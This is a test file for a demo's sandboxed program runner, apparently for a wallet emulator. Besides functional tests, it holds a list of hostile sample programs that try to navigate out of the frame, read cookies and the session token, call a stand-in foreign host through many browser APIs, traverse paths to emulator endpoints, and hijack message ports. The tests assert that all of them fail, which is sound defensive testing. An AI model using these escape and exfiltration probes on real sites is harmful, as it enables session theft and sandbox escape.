/** Programs that users edit and run in the demo. Their worker has access to the backend only. */
import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { isDeep } from "../../scripts/deep.ts"
import { eachTest, inaccessible, network, type Visitor } from "./app.ts"
import { startForeignHost, type ForeignHost } from "./foreignHost.ts"

const visitor = eachTest()

const somewhere = "0x00000000000000000000000000000000000000e7"
const transfer = `/transfertoken?network=${network}&token=native&amount=7&recipient=${somewhere}`

const runs = ({ page }: Visitor) => page.getByRole("button", { name: "Run", exact: true }).click()

/** Opens the panel, and stops the program that runs at once, unless it is over before the click: then the button is off. */
const openEditor = async (_: Visitor): Promise<void> => {
  await runs(_)
  await _.page.getByRole("button", { name: "Stop", exact: true }).click({ force: true })
}

/**
 * Waits for the end of the shown program, or runs another, to its end or until its first line. Answers the lines of its
 * output.
 */
const outcome = async (
  { page }: Visitor,
  title: string,
  program?: string,
  isStopped = false
): Promise<ReadonlyArray<string>> => {
  if (program !== undefined) {
    await page.getByLabel(`${title}: program to run`).fill(program)
    await page.getByRole("button", { name: "Run program" }).click()
  }
  const output = page.getByRole("log", { name: `${title}: output` })
  if (isStopped) {
    await output.locator("[data-kind]").first().waitFor()
    await page.getByRole("button", { name: "Stop" }).click()
  } else {
    await output.locator("[data-kind=end]").waitFor()
  }
  await page.locator("iframe[title='A program']").waitFor({ state: "detached" })
  return output.locator("[data-kind]").allInnerTexts()
}

describe("a program that is run", () => {
  it("sends what the form holds, with a session of its own", async () => {
    const _ = visitor()
    const { page } = _
    await _.signIn(transfer)
    const session = await page.evaluate("localStorage.getItem('okto_session')")
    await runs(_)
    const lines = await outcome(_, "Transfer a token")
    assert.include(lines, "POST /execute → 200")
    assert.match(lines.join("\n"), /SUCCESSFUL.*0x[0-9a-f]{64}/)
    assert.strictEqual(lines.at(-1), "Done.")
    assert.strictEqual(await page.evaluate("localStorage.getItem('okto_session')"), session)
    if (isDeep) assert.deepStrictEqual(await inaccessible(page), [])
  })

  it.runIf(isDeep)("signs as an Effect", async () => {
    const _ = visitor()
    const { page } = _
    await _.signIn()
    const panel = page.getByRole("region", { name: "Code: Sign a message" })
    await panel.getByRole("tab", { name: "Effect" }).click()
    await panel.getByRole("button", { name: "Run", exact: true }).click()
    assert.match((await outcome(_, "Sign a message")).join("\n"), /0x[0-9a-f]{130}/)
  })

  it.runIf(isDeep)("is shown without a token, which is asked for once, where the backend issues none", async () => {
    const _ = visitor()
    _.expectsErrors = true
    let asked = 0
    await _.page.route("**/jwt.json?*", (route) => {
      asked++
      return route.fulfill({ status: 403, json: { error: "none is issued" } })
    })
    await _.visit("/transfertoken")
    await _.page.getByRole("region", { name: /^Transfer a token: / }).waitFor()
    assert.strictEqual(asked, 1)
  })

  it.runIf(isDeep)("sends a raw transaction from the guest's address", async () => {
    const _ = visitor()
    const { page } = _
    await _.signIn(`/rawtransaction?network=${network}&to=${somewhere}&value=7`)
    await page.getByLabel("Sender").and(page.locator("[value^='0x']")).waitFor()
    const sender = await page.getByLabel("Sender").inputValue()
    await runs(_)
    const editor = page.getByLabel("Send a raw EVM transaction: program to run")
    await editor.waitFor()
    assert.notInclude(await editor.inputValue(), sender)
    const lines = await outcome(_, "Send a raw EVM transaction")
    assert.match(lines.join("\n"), /SUCCESSFUL.*0x[0-9a-f]{64}/)
  })

  it.runIf(isDeep)("shows its failure", async () => {
    const _ = visitor()
    await _.signIn(transfer)
    await openEditor(_)
    const imports = await outcome(_, "Transfer a token", `import { something } from "somewhere"\n`)
    assert.match(imports.at(-1) ?? "", /Unknown module somewhere/)
    const throws = await outcome(
      _,
      "Transfer a token",
      "setTimeout(() => missing()); await new Promise(() => {})",
      true
    )
    assert.match(throws.join(), /ReferenceError: missing is not defined/)
    const fails = await outcome(_, "Transfer a token", "absent()")
    assert.strictEqual(fails.at(-1), "ReferenceError: absent is not defined")
  })

  it("is not run in a frame with the demo's origin", async () => {
    const _ = visitor()
    const { page } = _
    await _.visit("/")
    const said = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const frame = document.createElement("iframe")
          const { port1, port2 } = new MessageChannel()
          port1.addEventListener("message", ({ data }) => resolve(data))
          port1.start()
          const start = { _tag: "Start", program: `localStorage.setItem("loose", "yes")` }
          frame.addEventListener("load", () => frame.contentWindow?.postMessage(start, "*", [port2]))
          frame.src = "/runner.html"
          document.body.append(frame)
        })
    )
    assert.deepStrictEqual(said, { _tag: "Ended", failure: "Error: This frame has an origin: no program is run in it" })
    assert.isNull(await page.evaluate("localStorage.getItem('loose')"))
  })

  it.runIf(isDeep)("stops when the user stops it", async () => {
    const _ = visitor()
    const { page } = _
    await _.visit("/home")
    const panel = page.getByRole("region", { name: "Code: Sign a message" })
    await panel.getByRole("button", { name: "Run", exact: true }).click()
    await panel.getByLabel("Sign a message: program to run").fill(`console.log("begun"); await new Promise(() => {})`)
    await panel.getByRole("button", { name: "Run program" }).click()
    await panel.getByText("begun", { exact: true }).waitFor()
    await page.locator("iframe").waitFor({ state: "attached" })
    await panel.getByRole("button", { name: "Stop" }).click()
    await page.locator("iframe").waitFor({ state: "detached" })
  })
})

/** Attempts of hostile programs. `tried` prints the outcome of an attempt; `there` is their host. */
const hostile: Readonly<Record<string, string>> = {
  "navigates its frame": `
tried("href", () => { location.href = there + "href" })
tried("assign", () => location.assign(there + "assign"))
tried("history", () => history.pushState(null, "", there))
tried("link", () => { const a = document.createElement("a"); a.href = there + "link"; a.click() })
tried("form", () => { const form = document.createElement("form"); form.action = there + "form"; document.body.append(form); form.submit() })
tried("refresh", () => { document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=' + there + 'refresh">' })`,
  "navigates the page, and opens others": `
tried("top", () => { top.location.href = there + "top" })
tried("parent", () => { parent.location = there + "parent" })
tried("open", () => open(there + "open"))
tried("demo", () => parent.document.title)
tried("cookies", () => document.cookie)
tried("own storage", () => sessionStorage.length)
tried("session", () => localStorage.getItem("okto_session"))`,
  "reaches other hosts": `
await tried("fetch", () => fetch(there + "fetch"))
await tried("another fetch", () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, there + "fetch2"))
await tried("XMLHttpRequest", () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = () => reject(new Error("forbidden")); request.open("GET", there + "xhr"); request.send() }))
await tried("socket", () => new Promise((resolve, reject) => { const socket = new WebSocket(there.replace("http", "ws") + "socket"); socket.onopen = resolve; socket.onerror = () => reject(new Error("forbidden")) }))
await tried("events", () => new Promise((resolve, reject) => { const source = new EventSource(there + "events"); source.onopen = resolve; source.onerror = () => reject(new Error("forbidden")) }))
await tried("import", () => import(there + "import"))
await tried("import of the demo's", () => import(demo + "/early.js"))
await tried("importScripts", () => importScripts(there + "scripts"))
await tried("beacon", () => navigator.sendBeacon(there + "beacon"))
await tried("picture", () => { new Image().src = there + "picture" })
await tried("worker", () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + there + "worker').then(() => postMessage('reached'), () => postMessage('forbidden'))"]))); worker.onmessage = ({ data }) => data === "reached" ? resolve(data) : reject(new Error(data)) }))`,
  "reaches the emulator's own paths": `
await tried("control", () => fetch(demo + "/__emulator/users"))
await tried("out of the backend", () => fetch(demo + "/api/oc/../../__emulator/users"))
await tried("the demo", () => fetch(demo + "/"))`,
  "opens peer connections": `
await tried("WebRTC", () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.test" }] }); peer.createDataChannel("x"); return peer.createOffer() })`,
  "takes the port": `
const ports = []
const take = (event) => { for (const port of event.ports ?? []) ports.push(port) }
addEventListener("message", take)
for (const name of ["postMessage", "start", "addEventListener"]) {
  const own = MessagePort.prototype[name]
  MessagePort.prototype[name] = function (...given) { ports.push(this); return own.apply(this, given) }
}
console.log("a word")
await fetch(demo + "/elsewhere").catch(() => undefined)
await tried("port", () => ports[0].postMessage({ _tag: "Printed", text: "taken", isError: false }))
await tried("broadcast", () => { if (ports.length > 0) throw new Error("no"); return Promise.reject(new Error(new BroadcastChannel("okto-emulator:/").name)) })`
}

describe("a hostile program", () => {
  let host: ForeignHost
  beforeAll(async () => {
    host = await startForeignHost()
  })
  afterAll(() => host.close())

  const open = async (): Promise<Visitor> => {
    const _ = visitor()
    await _.signIn(transfer)
    await openEditor(_)
    return _
  }

  // One page for all: each program has a frame and a worker of its own.
  it("gets nowhere with all that it tries", async () => {
    const _ = await open()
    const { page } = _
    const address = page.url()
    for (const [does, program] of Object.entries(hostile)) {
      const requests = host.requests.length
      const lines = await outcome(
        _,
        "Transfer a token",
        `const there = "${host.url}", demo = "${new URL(address).origin}"
const tried = async (name, what) => console.log("tried", name, await (async () => what())().then((value) => value === null ? "nothing" : "worked", (error) => "failed"))
${program}
`
      )
      const tried = lines.filter((line) => line.startsWith("tried "))
      assert.isNotEmpty(tried, does)
      assert.deepStrictEqual(
        tried.filter((line) => !/ (failed|nothing)$/.test(line)),
        [],
        does
      )
      assert.strictEqual(lines.at(-1), "Done.", does)
      assert.notInclude(lines, "taken", does)
      assert.deepStrictEqual(host.requests.slice(requests), [], does)
      assert.strictEqual(page.url(), address, does)
      assert.lengthOf(
        page
          .context()
          .pages()
          .filter((one) => one.url().startsWith(host.url)),
        0,
        does
      )
    }
    // The browser reports violations of the policy.
    assert.deepStrictEqual(
      _.errors.filter((text) => !/Content Security Policy|violates/.test(text)),
      []
    )
    _.errors.length = 0
  })

  it("gets the guest's token, not the user's", async () => {
    const _ = await open()
    const { page } = _
    const text = await page.getByLabel("Transfer a token: program to run").inputValue()
    const payloads = [...text.matchAll(/eyJ[\w-]+\.([\w-]+)\./g)].map(([, payload = ""]): unknown =>
      JSON.parse(Buffer.from(payload, "base64url").toString())
    )
    assert.deepStrictEqual(
      payloads.map((payload) => Reflect.get(Object(payload), "sub")),
      ["guest"]
    )
    const user: unknown = JSON.parse(String(await page.evaluate("localStorage.getItem('okto_session')")))
    assert.include(text, "// A guest of the local backend, without your token.")
    assert.notInclude(text, String(Reflect.get(Object(user), "userSWA")))
  })

  it.runIf(isDeep)("can be stopped in an endless loop, which does not block the page", async () => {
    const _ = await open()
    const { page } = _
    const lines = await outcome(_, "Transfer a token", `console.log("begun"); for (;;) {}`, true)
    assert.deepStrictEqual(lines, ["begun"])
    // Its thread ends with it.
    while (page.workers().length > 0) await page.workers()[0]?.waitForEvent("close")
    assert.include(await outcome(_, "Transfer a token", `console.log("another")`), "another")
  })

  it.runIf(isDeep)("is stopped when it sends too many messages, or reports its end", async () => {
    const _ = await open()
    const loops = [
      `for (;;) console.log("x")`,
      `for (;;) postMessage({ any: "thing" })`,
      `console.log("x".repeat(2_000_000))`,
      `console.log("begun"); for (;;) void fetch("${new URL(_.page.url()).origin}/elsewhere")`
    ]
    for (const loop of isDeep ? loops : loops.slice(0, 1)) {
      const lines = await outcome(_, "Transfer a token", loop)
      assert.match(lines.at(-1) ?? "", /^Stopped: /, loop)
    }
    const early = await outcome(
      _,
      "Transfer a token",
      `postMessage({ _tag: "Ended" }); for (;;) postMessage({ _tag: "Printed", text: "after the end", isError: false })`
    )
    assert.deepStrictEqual(early, ["Done."])
  })
})
